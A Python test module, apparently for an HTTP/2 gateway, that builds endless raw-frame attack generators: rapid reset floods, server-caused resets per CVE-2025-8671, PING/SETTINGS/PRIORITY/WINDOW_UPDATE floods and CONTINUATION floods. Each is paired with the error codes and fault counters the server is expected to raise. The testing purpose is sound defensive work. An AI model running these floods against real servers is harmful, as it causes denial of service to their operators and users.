"""Attacks on HTTP/2 as octets, for the scenarios and for the soak. Each is an endless generator: batch after batch until
the server has had enough."""
import itertools
from dataclasses import dataclass, field
from typing import Any, Callable

import frames
import literal_hpack as hpack
from frames import (COMPRESSION_ERROR, END_HEADERS, END_STREAM, ENHANCE_YOUR_CALM, FLOW_CONTROL_ERROR, FRAME_SIZE_ERROR,
                    LARGEST_WINDOW, PADDED, PRIORITIZED, PROTOCOL_ERROR, STREAM_CLOSED, WHOLE, continuation, data, frame,
                    headers, ping, priority, rst_stream, settings, window_update)

BATCH = 50
CALM = {ENHANCE_YOUR_CALM}
HELD = "/held"          # the origin reads such a request and never answers
ALTSVC = 0x0a


@dataclass
class Attack:
    octets: Callable                      # () -> an iterator of batches
    codes: set = field(default_factory=lambda: set(CALM))
    reasons: Any = ()                     # of headgate_h2_faults_total, one of which has to rise
    settings: bytes = settings()
    is_paced: bool = False                # a batch has been looked at before the next one comes
    reaches_origin: bool = False          # each of its streams could be a request at the origin

    def run(self, attacker, rounds):
        """At most so many batches, until the connection is over. It may end later than that: much waits in sockets."""
        for octets in itertools.islice(self.octets(), rounds):
            attacker.send(octets)
            if self.is_paced:
                attacker.fence()
            if attacker.is_over:
                break


def fields(path=HELD, method="GET", *more):
    return [(":method", method), (":scheme", "http"), (":path", path), (":authority", "www.example"), *more]


def get(stream, *more, path=HELD, flags=WHOLE):
    return headers(stream, hpack.block(fields(path, "GET", *more)), flags)


def post(stream, *more, path=HELD):
    return headers(stream, hpack.block(fields(path, "POST", *more)), END_HEADERS)


def per_stream(make, batch=BATCH):
    """Streams one after the other; `make(stream)` is all that is sent on one."""
    def octets():
        ids = itertools.count(1, 2)
        while True:
            yield b"".join(make(next(ids)) for _ in range(batch))
    return octets


def again(octets, first=b"", times=100):
    """The same octets again and again, behind some that come once."""
    def generate():
        yield first
        while True:
            yield octets * times
    return generate


def opened_then(make):
    """A batch of requests that are at the origin before anything else happens to them."""
    def octets():
        ids = itertools.count(1, 2)
        while True:
            streams = [next(ids) for _ in range(BATCH)]
            yield b"".join(map(get, streams))
            yield b"".join(map(make, streams))
    return octets


def caused(make, *reasons, codes=CALM, **more):
    """Streams on which the server is made to send the RST_STREAM (CVE-2025-8671)."""
    return Attack(per_stream(make), set(codes), ("caused-reset-flood", *reasons), is_paced=True, reaches_origin=True, **more)


PROTOCOL = CALM | {PROTOCOL_ERROR}
RESETS = {
    "rapid reset": Attack(per_stream(lambda s: get(s) + rst_stream(s)), reasons=["reset-flood"], reaches_origin=True),
    "rapid reset of uploads": Attack(per_stream(lambda s: post(s) + data(s, b"x" * 10) + rst_stream(s)),
                                     reasons=["reset-flood"], reaches_origin=True),
    "reset of requests that the origin has": Attack(opened_then(rst_stream), reasons=["reset-flood"], is_paced=True,
                                                    reaches_origin=True),
}
MADE_YOU_RESET = {
    "WINDOW_UPDATE of 0": caused(lambda s: get(s) + window_update(s, 0), "window-update-of-zero", codes=PROTOCOL),
    "window too large": caused(lambda s: get(s) + window_update(s, LARGEST_WINDOW), "stream-window",
                               codes=CALM | {FLOW_CONTROL_ERROR}),
    "DATA after END_STREAM": caused(lambda s: get(s) + data(s, b"x"), "frame-after-end-of-stream",
                                    codes=CALM | {STREAM_CLOSED}),
    "HEADERS after END_STREAM": caused(lambda s: get(s) + get(s), "frame-after-end-of-stream", codes=CALM | {STREAM_CLOSED}),
    "PRIORITY on itself": caused(lambda s: get(s) + priority(s, s)),
    "PRIORITY of a wrong length": caused(lambda s: get(s) + frame(frames.PRIORITY, 0, s, bytes(4)), "frame-size",
                                         codes=CALM | {FRAME_SIZE_ERROR}),
    "HEADERS that depends on itself": caused(
        lambda s: headers(s, frames.number(s) + b"\x0f" + hpack.block(fields()), WHOLE | PRIORITIZED),
        "priority-on-itself-idle", codes=PROTOCOL),
    "more content than said": caused(lambda s: post(s, ("content-length", "3")) + data(s, b"abcd")),
    "less content than said": caused(lambda s: post(s, ("content-length", "3")) + data(s, b"ab", END_STREAM)),
    "trailers without END_STREAM": caused(lambda s: post(s) + headers(s, hpack.block([("a", "b")]), END_HEADERS)),
    "pseudo-field in trailers": caused(lambda s: post(s) + headers(s, hpack.block([(":path", "/")]))),
    "malformed fields": caused(lambda s: get(s, ("X", "y"))),
    "more than the window": Attack(again(b"".join(data(1, b"x" * 16384) for _ in range(8)), post(1)),
                                   {FLOW_CONTROL_ERROR} | CALM, ["caused-reset-flood", "stream-window"]),
    "DATA after its own RST_STREAM": caused(lambda s: post(s) + rst_stream(s) + data(s, b"x"), "reset-flood"),
    "HEADERS after its own RST_STREAM": caused(lambda s: post(s) + rst_stream(s) + get(s), "reset-flood"),
    "streams beyond the limit": caused(get, "other", codes=PROTOCOL),
}
FRAMES = {
    "PING": Attack(again(ping()), reasons=["ping-flood", "answer-flood"]),
    "PING ACK": Attack(again(ping(flags=frames.ACK)), reasons=["ping-flood"]),
    "SETTINGS": Attack(again(settings()), reasons=["settings-flood", "answer-flood"]),
    "SETTINGS ACK": Attack(again(frames.SETTINGS_ACK), PROTOCOL, ["settings-flood", "other"]),
    "windows in SETTINGS": Attack(again(settings((frames.INITIAL_WINDOW_SIZE, 0), (frames.INITIAL_WINDOW_SIZE, 9)),
                                        b"".join(map(get, range(1, 201, 2)))), reasons=["settings-flood", "answer-flood"]),
    "table sizes in SETTINGS": Attack(again(settings((frames.HEADER_TABLE_SIZE, 0), (frames.HEADER_TABLE_SIZE, 1 << 30))),
                                      reasons=["settings-flood", "answer-flood"]),
    "PRIORITY": Attack(again(priority(1)), reasons=["priority-flood"]),
    "PRIORITY of idle streams": Attack(per_stream(lambda s: priority(s + 2, 1)), reasons=["priority-flood"]),
    "PRIORITY_UPDATE": Attack(again(frames.priority_update(1)), reasons=["priority-flood"]),
    "WINDOW_UPDATE": Attack(again(window_update(0, 1)), reasons=["window-update-flood"]),
    "WINDOW_UPDATE of a stream": Attack(again(window_update(1, 1), get(1)), reasons=["window-update-flood"]),
    "unknown frames": Attack(again(frame(frames.UNKNOWN, 0, 0, b"x")), reasons=["other-frame-flood"]),
    "ALTSVC": Attack(again(frame(ALTSVC, 0, 0, b"\0\x01a")), reasons=["other-frame-flood"]),
    "GOAWAY": Attack(again(frames.goaway(), post(1)), reasons=["other-frame-flood"]),
    "empty DATA": Attack(again(data(1), post(1)), reasons=["empty-frame-flood"]),
    "padding": Attack(again(data(1, b"\x02\0\0", PADDED), post(1)), reasons=["empty-frame-flood"]),
    "empty HEADERS": Attack(per_stream(lambda s: headers(s, b"")), PROTOCOL,
                            ["empty-frame-flood", "caused-reset-flood", "other"]),
    "fields of no length": Attack(per_stream(lambda s: get(s, *[("", "")] * 20)), PROTOCOL, ["caused-reset-flood", "other"]),
}
ENDLESS = get(1, flags=END_STREAM)
BLOCKS = {
    "CONTINUATION": Attack(again(continuation(1, hpack.literal("a", "b"), 0), ENDLESS, 10),
                           reasons=["too-many-continuations"]),
    "empty CONTINUATION": Attack(again(continuation(1, b"", 0), ENDLESS, 10),
                                 reasons=["too-many-continuations", "empty-frame-flood"]),
    "large CONTINUATION": Attack(again(continuation(1, hpack.literal("a", "b" * 1000) * 16, 0), ENDLESS, 1),
                                 reasons=["too-many-continuations", "header-block-too-long"]),
    "CONTINUATION of no sense": Attack(again(continuation(1, b"\xff" * 1000, 0), ENDLESS, 1),
                                       CALM | {COMPRESSION_ERROR}, ["too-many-continuations", "other"]),
}
ALL = {**RESETS, **MADE_YOU_RESET, **FRAMES, **BLOCKS}
